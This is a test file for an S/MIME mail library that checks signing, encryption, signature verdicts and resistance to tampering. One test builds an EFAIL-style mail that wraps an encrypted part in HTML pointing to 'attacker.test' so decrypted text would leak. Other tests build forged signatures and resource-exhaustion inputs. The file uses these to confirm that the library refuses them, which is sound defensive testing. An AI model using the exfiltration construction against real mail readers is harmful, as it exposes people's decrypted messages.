import { expect, test } from 'vitest'
import {
  type Bytes,
  encryptPart,
  fromText,
  meaningOf,
  type ProtectedMail,
  readProtected,
  signPart,
  signPartInside,
} from '../src/index.ts'
import { MAIL, MAILS } from './cases.ts'
import { DAY, fixtures, withBitTurned } from './fixtures.ts'

const text = (bytes: Bytes | null | undefined) => new TextDecoder().decode(bytes ?? new Uint8Array(0))
const mailOf = (file: string) => text(fixtures.read(`mails/${file}`))

const read = (mail: string | Bytes, ...people: readonly string[]) =>
  readProtected(typeof mail === 'string' ? fromText(mail) : mail, { keys: fixtures.held(...people), certificates: [] })

/** What each layer of a mail is, and what its signatures prove. */
const layersOf = (mail: ProtectedMail | null) =>
  mail?.layers.map((layer) =>
    layer.kind === 'signed' ? layer.signatures.map(({ integrity }) => integrity).join() : layer.kind,
  )

const signing = (person: string) => ({
  key: fixtures.key(person),
  certificate: fixtures.certificate(person),
  chain: [fixtures.certificate('middle')],
  at: DAY,
})

const PART = fromText(
  'Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n6ZuB5Lmm\r\n',
)

test.each(MAILS)(
  'given a mail of openssl ($file), then all its layers are opened, whichever line ends it came with',
  async ({ file, layers }) => {
    const expected = layers.map((layer) => (layer === 'signed' ? 'intact' : layer))
    const lf = mailOf(file).replaceAll('\r\n', '\n')
    for (const mail of [mailOf(file), lf, lf.replaceAll('\n', '\r\n')]) {
      const opened = await read(mail, 'ec')
      expect(layersOf(opened)).toEqual(expected)
      expect(text(opened?.content).replaceAll('\r\n', '\n')).toBe(text(MAIL).replaceAll('\r\n', '\n'))
      expect(opened?.beside).toEqual([])
    }
  },
)

test.each(['rsa', 'ec', 'sm2'])(
  'given a letter protected here with the key of %s, then it is opened in both orders',
  async (person) => {
    const recipients = [fixtures.certificate(person), fixtures.certificate('web')]
    const cipher = person === 'rsa' ? 'AES-256-GCM' : person === 'ec' ? 'AES-256-CBC' : 'SM4-CBC'
    const encrypting = { recipients, cipher, rsa: 'PKCS1-v1_5' } as const
    const signedFirst = await encryptPart(await signPart(PART, signing(person)), encrypting)
    const encryptedFirst = await signPart(await encryptPart(PART, encrypting), signing(person))
    const inside = await signPartInside(PART, signing(person))
    for (const [mail, layers] of [
      [signedFirst, ['encrypted', 'intact']],
      [encryptedFirst, ['intact', 'encrypted']],
      [inside, ['intact']],
    ] as const) {
      const opened = await read(mail, person)
      expect(layersOf(opened)).toEqual(layers)
      expect(opened?.content).toEqual(PART)
    }
    expect(
      text(signedFirst)
        .split('\r\n')
        .every((line) => line.length <= 998 && !line.includes('\n')),
    ).toBe(true)
  },
)

test('given a part that a mail server would rewrite, then it is not signed beside but refused', async () => {
  for (const body of ['雁书', 'a'.repeat(999)]) {
    await expect(signPart(fromText(`\r\n${body}\r\n`), signing('ec'))).rejects.toMatchObject({ code: 'not-canonical' })
  }
  expect(layersOf(await read(await signPart(fromText(`\n${'a'.repeat(998)}\n`), signing('ec'))))).toEqual(['intact'])
})

test('given a signed mail that was changed on the way, then it is shown as changed', async () => {
  expect(layersOf(await read(mailOf('beside.eml').replace('letter', 'Letter')))).toEqual(['changed'])
})

test('given a signature that brings a content of its own, then the part beside it is what is checked', async () => {
  // The opaque letter of a person, sent on as the signature of another text.
  const opaque = text(await signPartInside(fromText('Content-Type: text/plain\r\n\r\nyes\r\n'), signing('ec')))
  const bytes = opaque.slice(opaque.indexOf('\r\n\r\n') + 4)
  const head = 'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; boundary=S'
  const signature = `Content-Type: application/pkcs7-signature\r\nContent-Transfer-Encoding: base64\r\n\r\n${bytes}`
  const forged = `${head}\r\n\r\n--S\r\nContent-Type: text/plain\r\n\r\nno\r\n\r\n--S\r\n${signature}\r\n--S--\r\n`
  expect(layersOf(await read(forged))).toEqual(['changed'])
  expect(layersOf(await read(forged.replace('\r\n\r\nno\r\n', '\r\n\r\nyes\r\n')))).toEqual(['intact'])
})

test('given a signed mail that a mailing list added its text to, then it is intact, and the text stands apart', async () => {
  const footer = 'Content-Type: text/plain\r\n\r\nTo unsubscribe, see the page of the list'
  const signed = text(await signPart(PART, signing('ec')))
  const list = `Content-Type: multipart/mixed; boundary=LIST\r\n\r\n--LIST\r\n${signed}\r\n--LIST\r\n${footer}\r\n--LIST--\r\n`
  const opened = await read(list)
  expect(layersOf(opened)).toEqual(['intact'])
  expect(opened?.content).toEqual(PART)
  expect(opened?.beside.map(text)).toEqual([footer])

  // A list that appends a part to the signed multipart itself.
  const boundary = /boundary="(=_yanshu_[^"]+)"/.exec(signed)?.[1]
  const appended = await read(signed.replace(`--${boundary}--`, `--${boundary}\r\n${footer}\r\n--${boundary}--`))
  expect(layersOf(appended)).toEqual(['intact'])
  expect(appended?.beside.map(text)).toEqual([footer])
})

test('given a letter with a protected file among its attachments, then the letter itself counts as unprotected', async () => {
  const file = text(await signPartInside(PART, signing('ec')))
  const mixed = `Content-Type: multipart/mixed; boundary=M\r\n\r\n--M\r\n\r\nsee the file\r\n--M\r\n${file}\r\n--M--\r\n`
  expect(await read(mixed)).toBeNull()
  const beside = `Content-Type: multipart/mixed; boundary=M\r\n\r\n--M\r\n${file}\r\n--M\r\nContent-Type: image/png\r\n\r\nx\r\n--M--\r\n`
  expect(await read(beside)).toBeNull()
})

test.each([
  ['application/x-pkcs7-mime; name=smime.p7m', ''],
  ['application/octet-stream; name="smime.p7m"', ''],
  ['application/octet-stream', 'attachment; filename="smime.p7m"'],
  ['application/pkcs7-mime; smime-type=signed-data', ''],
])('given an encrypted mail sent as %s %s, then it is opened by what it holds', async (type, disposition) => {
  const mail = mailOf('encrypted.eml')
    .replace(/Content-Type: .*/, `Content-Type: ${type}`)
    .replace(/Content-Disposition: .*\r?\n/, disposition ? `Content-Disposition: ${disposition}\n` : '')
  expect(layersOf(await read(mail, 'ec'))).toEqual(['encrypted'])
})

test('given a signature of another type and name, or none, then it is found or the mail is refused', async () => {
  const mail = mailOf('beside.eml')
  const old = mail
    .replaceAll('application/pkcs7-signature', 'application/x-pkcs7-signature')
    .replace('sha-256', 'SHA256')
  expect(layersOf(await read(old))).toEqual(['intact'])
  const cut = mail.slice(0, mail.lastIndexOf('Content-Type: application/pkcs7-signature'))
  expect((await read(cut))?.failure?.code).toBe('malformed')
})

test('given mails without protection, then there is nothing to open', async () => {
  for (const mail of [
    'Subject: a\r\n\r\nhello',
    '',
    'Content-Type: multipart/signed; protocol="application/pgp-signature"; boundary=a\r\n\r\n--a--',
  ]) {
    expect(await read(mail)).toBeNull()
  }
})

test('given a mail that no key opens, then what was found until there is returned, with the reason', async () => {
  const opened = await read(mailOf('encrypted-signed.eml'), 'rsa')
  expect(layersOf(opened)).toEqual(['intact'])
  expect(opened?.content).toBeNull()
  expect(opened?.failure?.code).toBe('not-a-recipient')
})

test('given HTML before and behind an encrypted part, then the opened part is a document of its own', async () => {
  const encrypted = mailOf('encrypted.eml').replace('MIME-Version: 1.0\n', '')
  const exfiltrating = [
    'Content-Type: multipart/mixed; boundary=E\n\n--E\n',
    'Content-Type: text/html\n\n<img src="http://attacker.test/\n',
    `--E\n${encrypted}\n--E\nContent-Type: text/html\n\n">\n--E--\n`,
  ].join('')
  expect(await read(exfiltrating, 'ec')).toBeNull()
  const first = exfiltrating.replace('--E\nContent-Type: text/html\n\n<img src="http://attacker.test/\n', '')
  const opened = await read(first, 'ec')
  expect(text(opened?.content)).not.toContain('>')
  expect(opened?.beside.length).toBe(1)
})

test('given an encrypted mail, then it is marked whether its cipher notices changes', async () => {
  const recipients = [fixtures.certificate('ec')]
  for (const [cipher, notices] of [
    ['AES-256-CBC', false],
    ['AES-256-GCM', true],
  ] as const) {
    const opened = await read(await encryptPart(PART, { recipients, cipher, rsa: 'OAEP' }), 'ec')
    expect(opened?.layers[0]).toMatchObject({ kind: 'encrypted', noticesChanges: notices, weak: false })
  }
})

const meaningFor = async (changes: {
  from?: string
  now?: Date
  receivedAt?: Date
  roots?: readonly string[]
  mail?: Bytes
}) => {
  const { from = 'ec@yanshu.test', now = DAY, receivedAt = DAY, roots = ['root'] } = changes
  const opened = await read(changes.mail ?? (await signPart(PART, signing('ec'))))
  const [layer] = opened?.layers ?? []
  const signature = layer?.kind === 'signed' ? layer.signatures[0] : undefined
  if (!signature || layer?.kind !== 'signed') throw new Error('no signature')
  const { certificates } = layer
  const options = { from, now, receivedAt, certificates, roots: roots.map(fixtures.certificate) }
  return (await meaningOf(signature, options)).meaning
}

test('given a signature, then its meaning is one word', async () => {
  const later = new Date('2200-01-01')
  expect(await meaningFor({})).toBe('good')
  expect(await meaningFor({ from: 'EC@Yanshu.Test' })).toBe('good')
  expect(await meaningFor({ from: 'boss@yanshu.test' })).toBe('other-sender')
  expect(await meaningFor({ roots: ['national-root'] })).toBe('unknown-issuer')
  expect(await meaningFor({ now: later })).toBe('good-then')
  const web = await signPart(PART, signing('web'))
  expect(await meaningFor({ mail: web, from: 'web@yanshu.test' })).toBe('not-for-mail')
  const posing = await signPart(PART, {
    ...signing('posing'),
    chain: [fixtures.certificate('ec'), fixtures.certificate('middle')],
  })
  expect(await meaningFor({ mail: posing, from: 'posing@yanshu.test' })).toBe('broken-chain')
  const signedLate = await signPart(PART, { ...signing('ec'), at: later })
  expect(await meaningFor({ mail: signedLate, receivedAt: later, now: later })).toBe('expired-then')
  // Who signs later than the mail arrived has a wrong clock, or lies: the time of arrival counts.
  expect(await meaningFor({ mail: signedLate })).toBe('good')
  const changed = fromText(text(await signPart(PART, signing('ec'))).replace('6ZuB5Lmm', '6ZuB5Lmn'))
  expect(await meaningFor({ mail: changed })).toBe('changed')
})

test('given mails that were changed anywhere, then they are read, or refused with a reason', async () => {
  for (const { file } of MAILS) {
    const bytes = fixtures.read(`mails/${file}`)
    for (let at = 0; at < bytes.length; at += 211) await read(withBitTurned(bytes, at), 'ec')
  }
})

test('given mails that are made to keep the machine busy, then they are read or refused, in pieces of any number', async () => {
  const spaces = `Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n${' '.repeat(400_000)}x`
  expect((await read(spaces))?.failure?.code).toBe('malformed')
  const padded = `Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\n${'MA=='.repeat(200_000)}`
  expect((await read(padded))?.failure?.code).toBe('malformed')
  const quoted = `Content-Type: multipart/signed${';a="'.repeat(100_000)}\r\n\r\n`
  expect((await read(quoted))?.failure?.code).toBe('malformed')
})

test('given quoted-printable with soft line ends and spaces that a server added, then it is decoded', async () => {
  const [head = '', body = ''] = mailOf('encrypted.eml').split(/\n\n/)
  const hex = Buffer.from(body, 'base64').toString('hex').toUpperCase()
  const inner = hex.replace(/../g, '=$&')
  const wrapped = inner.replace(/.{60}/g, '$&= \n')
  const mail = `${head.replace(/base64/, 'quoted-printable')}\n\n${wrapped}`
  expect(layersOf(await read(mail, 'ec'))).toEqual(['encrypted'])
})
